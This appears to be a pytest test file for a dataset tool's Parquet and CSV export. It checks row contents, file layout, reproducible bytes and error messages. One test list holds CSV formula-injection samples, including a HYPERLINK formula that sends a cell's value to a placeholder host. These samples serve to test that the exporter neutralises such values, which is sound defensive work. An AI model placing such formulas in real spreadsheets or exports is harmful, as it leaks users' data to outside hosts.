"""Parquet and CSV of a set: what the shards hold, for readers that know nothing of them."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow.parquet as pq
import pytest
from test_export_valor import samples

from valor_data import open_shards
from valor_data.errors import ConfigError, ShardError
from valor_data.publish.exports import Exported, ExportOptions, parquet, run_export
from valor_data.publish.exports.captions import disarm
from valor_data.road import NoProgress
from valor_data.workdir import WorkDir

EVERYTHING = ("audio", "frames", "mel", "video")


def export(work: WorkDir, layout: str, target: Path, **options: Any) -> Exported:
    return run_export(work, layout, str(target), ExportOptions(workers=1, **options), NoProgress())


def rows_of(folder: Path) -> dict[str, dict[str, Any]]:
    files = sorted(folder.glob("*.parquet"))
    return {row["key"]: row for file in files for row in pq.read_table(file).to_pylist()}


@pytest.fixture(scope="module")
def tables(full: WorkDir, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The whole set as Parquet, all columns."""
    folder = tmp_path_factory.mktemp("tables") / "set"
    export(full, "parquet", folder, include=EVERYTHING)
    return folder


def test_every_row_is_its_sample(full: WorkDir, tables: Path) -> None:
    rows, seen = rows_of(tables), 0
    for sample in open_shards(full.shards):
        row, clip = rows[sample.key], sample.clip
        assert (row["video_id"], row["split"]) == (clip.video_id, clip.split)
        assert (row["start_seconds"], row["end_seconds"]) == (clip.start, clip.end)
        assert row["captions"] == [{"text": c.text, "role": c.role} for c in clip.captions]
        assert (row["labels"], row["questions"]) == (list(clip.labels), [])  # never one empty entry
        assert row["facts"] == sample.details["facts"]
        assert row["source"] == sample.details["source"]
        assert row["frame_moments"] == sample.details["frame_moments"]
        assert [frame["bytes"] for frame in row["frames"]] == list(sample.jpegs)
        assert row["frames"][1]["path"] == f"{sample.key}.frame_01.jpg"
        assert sample.mel is not None
        assert np.array_equal(np.load(io.BytesIO(row["mel"])), sample.mel)
        assert row["audio"] == {"bytes": sample.media["flac"], "path": f"{sample.key}.flac"}
        assert row["video"]["bytes"] == sample.media["mp4"]
        seen += 1
    assert seen == len(rows) > 20


def test_a_file_a_shard_and_columns_only_on_request(full: WorkDir, tmp_path: Path) -> None:
    told = export(full, "parquet", tmp_path / "plain")
    assert {path.stem for path in (tmp_path / "plain").glob("*.parquet")} == {p.stem for p in full.shards.glob("*.tar")}
    columns = pq.read_schema(next((tmp_path / "plain").glob("*.parquet"))).names
    assert not set(columns) & set(EVERYTHING)
    assert told.num_clips == len(rows_of(tmp_path / "plain"))
    assert told.num_captions == sum(len(row["captions"]) for row in rows_of(tmp_path / "plain").values())


def test_datasets_reads_pictures_sound_and_video(tables: Path, full: WorkDir, tmp_path: Path) -> None:
    import datasets

    files = {split: [str(p) for p in sorted(tables.glob(f"{split}-*.parquet"))] for split in ("train", "test")}
    whole = datasets.load_dataset("parquet", data_files=files, cache_dir=str(tmp_path / "cache"))
    assert {name: type(whole["train"].features[name]) for name in ("audio", "video")} == {
        "audio": datasets.Audio, "video": datasets.Video,
    }  # fmt: skip
    first = next(iter(open_shards(full.shards, split="train")))
    row = whole["train"].remove_columns(["audio", "video"])[0]  # to decode these takes torchcodec
    assert row["captions"] == [{"text": c.text, "role": c.role} for c in first.clip.captions]
    assert row["key"] == first.key
    assert [picture.size for picture in row["frames"]] == [(96, 72)] * 4
    streamed = next(
        iter(datasets.load_dataset("parquet", data_files=files, streaming=True)["train"].select_columns(["captions"]))
    )
    assert streamed["captions"] == row["captions"]
    by_folder = datasets.load_dataset(str(tables), cache_dir=str(tmp_path / "cache"))
    assert {name: len(rows) for name, rows in by_folder.items()}["train"] == len(whole["train"])
    assert set(by_folder) == {"train", "validation", "test"}


def test_row_groups_are_bounded(full: WorkDir, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from valor_data.publish.exports.target import Target
    from valor_data.publish.finished import open_finished

    monkeypatch.setattr(parquet, "GROUP_BYTES", 20_000)
    finished = open_finished(full)
    shard = finished.shards[0]
    unit = parquet.Unit(shard, shard.num_samples, finished.output, Target(str(tmp_path)), ("frames",),
                        finished.settings, "{}", "stamp")  # fmt: skip
    parquet.write_file(unit)
    told = pq.read_metadata(tmp_path / unit.name)
    assert told.num_row_groups > 1
    assert all(told.row_group(i).total_byte_size < 2 * 20_000 for i in range(told.num_row_groups))
    compressed = {told.row_group(0).column(i).path_in_schema: told.row_group(0).column(i).compression
                  for i in range(told.num_columns)}  # fmt: skip
    assert compressed["key"] == "ZSTD"
    assert {name for name, how in compressed.items() if how == "UNCOMPRESSED"} == {"frames.list.element.bytes"}


def digests(folder: Path) -> dict[str, str]:
    return {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in folder.iterdir()}


def test_the_same_bytes_and_only_what_changed_is_written(full: WorkDir, tables: Path, tmp_path: Path) -> None:
    again = tmp_path / "set"
    run_export(full, "parquet", str(again), ExportOptions(workers=2, include=EVERYTHING), NoProgress())
    assert digests(again) == digests(tables)
    damaged, kept = again / "test-000000.parquet", again / "train-000000.parquet"
    damaged.write_bytes(damaged.read_bytes()[:-100])
    (again / "train-000099.parquet").write_bytes(b"of a shard that is no longer")
    before = kept.stat().st_mtime_ns
    export(full, "parquet", again, include=EVERYTHING)
    assert kept.stat().st_mtime_ns == before
    assert digests(again) == digests(tables)


def test_columns_that_cannot_be(real: WorkDir, tmp_path: Path) -> None:
    with pytest.raises(
        ShardError, match=r"--include video: the shards do not hold it; build them with `shard --include"
    ):
        export(real, "parquet", tmp_path / "out", include=("video",))
    with pytest.raises(ConfigError, match="--include pictures: expected some of frames, mel, audio, video"):
        export(real, "parquet", tmp_path / "out", include=("pictures",))


def test_tables_at_an_address(full: WorkDir, tables: Path, tmp_path: Path) -> None:
    place = f"local://{tmp_path}/set"
    for _ in range(2):
        run_export(full, "parquet", place, ExportOptions(workers=1, include=EVERYTHING), NoProgress())
        assert {p.name: p.read_bytes() for p in (tmp_path / "set").glob("*.*")} == {
            p.name: p.read_bytes() for p in tables.iterdir()
        }


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def test_csv_holds_every_caption(full: WorkDir, tmp_path: Path) -> None:
    told = export(full, "csv", tmp_path / "out")
    rows = [row for split in ("train", "val", "test") for row in read_csv(tmp_path / "out" / f"{split}.csv")]
    expected = {
        (sample.key, str(number)): (caption.text, caption.role)
        for sample in samples(full).values()
        for number, caption in enumerate(sample.clip.captions)
    }
    assert {(row["key"], row["number"]): (row["caption"], row["role"]) for row in rows} == expected
    assert told.num_captions == len(rows)
    raw = (tmp_path / "out" / "train.csv").read_bytes()
    assert raw.endswith(b"\r\n")
    assert raw.count(b"\n") == raw.count(b"\r\n")


HARD = [
    '=HYPERLINK("http://x.example/?"&A1)',
    '"quoted", with a comma',
    "two\nlines",
    "@here",
    "naïve ☂ 傘",
    "+1",
    " =x",
]


def with_captions(work: WorkDir, texts: list[str]) -> None:
    """The captions of some clips become others, in the tars: what a set from elsewhere may hold."""
    work.ledger.unlink()
    left = list(texts)
    for path in sorted(work.shards.glob("train-*.tar")):
        _recaption(path, pq.read_table(work.index / f"{path.stem}.parquet").to_pylist(), left)
    assert not left


def _recaption(path: Path, index: list[dict[str, Any]], left: list[str]) -> None:
    data = bytearray(path.read_bytes())
    for row in [row for row in index if row["status"] == "kept"][: len(left)]:
        text = left.pop()
        member = next(m for m in row["members"] if m["name"].endswith(".json"))
        told = json.loads(data[member["offset"] : member["offset"] + member["size"]])
        told["captions"] = [{"text": text, "role": "audiovisual"}]
        told["source"] = dict.fromkeys(told["source"], "")
        told["facts"]["decode_detail"] = ""
        said = json.dumps(told, ensure_ascii=False, separators=(",", ":")).encode()
        assert len(said) <= member["size"]
        data[member["offset"] : member["offset"] + member["size"]] = said.ljust(member["size"])
    path.write_bytes(data)


def test_csv_of_hard_captions(work: WorkDir, tmp_path: Path) -> None:
    with_captions(work, HARD)
    export(work, "csv", tmp_path / "plain", split="train")
    export(work, "csv", tmp_path / "safe", split="train", spreadsheet=True)
    plain, safe = (read_csv(tmp_path / name / "train.csv") for name in ("plain", "safe"))
    texts = {row["caption"] for row in plain}
    assert texts >= set(HARD)
    assert [row["caption"].removeprefix("'") for row in safe] == [row["caption"] for row in plain]
    for row in safe:
        assert not any(value.lstrip(" ").startswith(("=", "+", "-", "@")) for value in row.values())
    assert [row["key"].removeprefix("'") for row in safe] == [row["key"] for row in plain]


def test_what_is_disarmed() -> None:
    assert [disarm(text) for text in ("=1", "-id", "+1", "@x", "\tx", " =1", "plain", "1-2", "")] == [
        "'=1", "'-id", "'+1", "'@x", "'\tx", "' =1", "plain", "1-2", "",
    ]  # fmt: skip


def test_csv_of_a_half_built_set(work: WorkDir, tmp_path: Path) -> None:
    shutil.rmtree(work.index)
    with pytest.raises(ShardError, match="6 of 6 shards are not built"):
        export(work, "csv", tmp_path / "out")
